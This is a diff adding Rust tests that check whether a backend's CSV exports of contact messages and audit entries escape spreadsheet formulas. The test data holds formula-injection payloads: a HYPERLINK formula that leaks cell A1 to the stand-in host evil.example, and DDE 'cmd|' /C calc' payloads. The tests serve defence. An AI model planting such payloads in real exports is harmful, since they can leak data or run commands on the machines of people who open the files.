@@ -0,0 +1,98 @@
+use std::sync::Arc;
+
+use chrono::Utc;
+use serde_json::json;
+use futures::TryStreamExt;
+use portfolio_backend::{
+    crypto::field_cipher::FieldCipher,
+    entities::{
+        audit::{AuditEntry, AuditExportFormat, AuditLogFilter},
+        contact_me::{ContactMeExportQuery, ContactMeMessage},
+    },
+    geo::geoip::GeoLocator,
+    repositories::{audit_log::MockAuditLogRepository, contact_me::MockContactMeRepository},
+    use_cases::{audit::AuditTrail, contact::ContactMeHandler, ingest::ContactIngestQueue},
+    utils::csv_export::escape_formula,
+};
+use uuid::Uuid;
+
+const HYPERLINK: &str = r#"=HYPERLINK("https://evil.example/?leak="&A1,"Open")"#;
+
+/// Cells of every data row, header skipped
+fn records(csv: &[u8]) -> Vec<Vec<String>> {
+    csv::Reader::from_reader(csv)
+        .records()
+        .map(|record| record.unwrap().iter().map(str::to_string).collect())
+        .collect()
+}
+
+#[test]
+fn cells_a_spreadsheet_would_evaluate_are_quoted() {
+    for formula in [HYPERLINK, "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1"] {
+        assert_eq!(escape_formula(formula), format!("'{formula}"));
+    }
+    for text in ["Hello", "ada@example.com", "1-2", "", " =not at the start"] {
+        assert_eq!(escape_formula(text), text);
+    }
+}
+
+#[tokio::test]
+async fn contact_exports_neutralise_formulas_from_visitors() {
+    let tenant_id = Uuid::new_v4();
+    let message = ContactMeMessage {
+        id: Uuid::new_v4(),
+        tenant_id,
+        name: HYPERLINK.to_string(),
+        email: "ada@example.com".to_string(),
+        subject: Some("+cmd|' /C calc'!A0".to_string()),
+        message: "@SUM(1+1)*cmd|' /C calc'!A0".to_string(),
+        created_at: Utc::now(),
+        deleted_at: None,
+        is_spam: false,
+        country_code: Some("GB".to_string()),
+        region: None,
+        anonymized_at: None,
+    };
+    let mut repo = MockContactMeRepository::new();
+    repo.expect_list_contact_messages_chunk().returning(move |_, _, _, _| Ok(vec![message.clone()]));
+    let handler =
+        ContactMeHandler::new(Arc::new(repo), ContactIngestQueue::new(8), GeoLocator::default(), FieldCipher::disabled());
+
+    let filter = ContactMeExportQuery { include_pii: true, ..Default::default() };
+    let chunks: Vec<_> = handler.export_contact_messages_csv(tenant_id, filter).unwrap().try_collect().await.unwrap();
+    let rows = records(&chunks.concat());
+
+    assert_eq!(rows.len(), 1);
+    assert_eq!(rows[0][2], format!("'{HYPERLINK}"));
+    assert_eq!(rows[0][3], "ada@example.com");
+    assert_eq!(rows[0][4], "'+cmd|' /C calc'!A0");
+    assert_eq!(rows[0][5], "'@SUM(1+1)*cmd|' /C calc'!A0");
+}
+
+#[tokio::test]
+async fn audit_exports_share_the_escaping() {
+    let tenant_id = Uuid::new_v4();
+    let entry = AuditEntry {
+        id: Uuid::new_v4(),
+        tenant_id,
+        actor: HYPERLINK.to_string(),
+        action: "auth.login_failed".to_string(),
+        details: json!({ "note": "-1" }),
+        created_at: Utc::now(),
+        entity_type: Some("user".to_string()),
+        entity_id: Some("@A1".to_string()),
+        result: "failure".to_string(),
+    };
+    let mut repo = MockAuditLogRepository::new();
+    repo.expect_list_entries_chunk().returning(move |_, _, _, _| Ok(vec![entry.clone()]));
+    let trail = AuditTrail::new(Arc::new(repo));
+
+    let export = trail.export(tenant_id, AuditLogFilter::default(), AuditExportFormat::Csv, true).unwrap();
+    let chunks: Vec<_> = export.try_collect().await.unwrap();
+    let rows = records(&chunks.concat());
+
+    assert_eq!(rows[0][2], format!("'{HYPERLINK}"));
+    assert_eq!(rows[0][3], "auth.login_failed");
+    assert_eq!(rows[0][5], "'@A1");
+    assert_eq!(rows[0][7], r#"{"note":"-1"}"#);
+}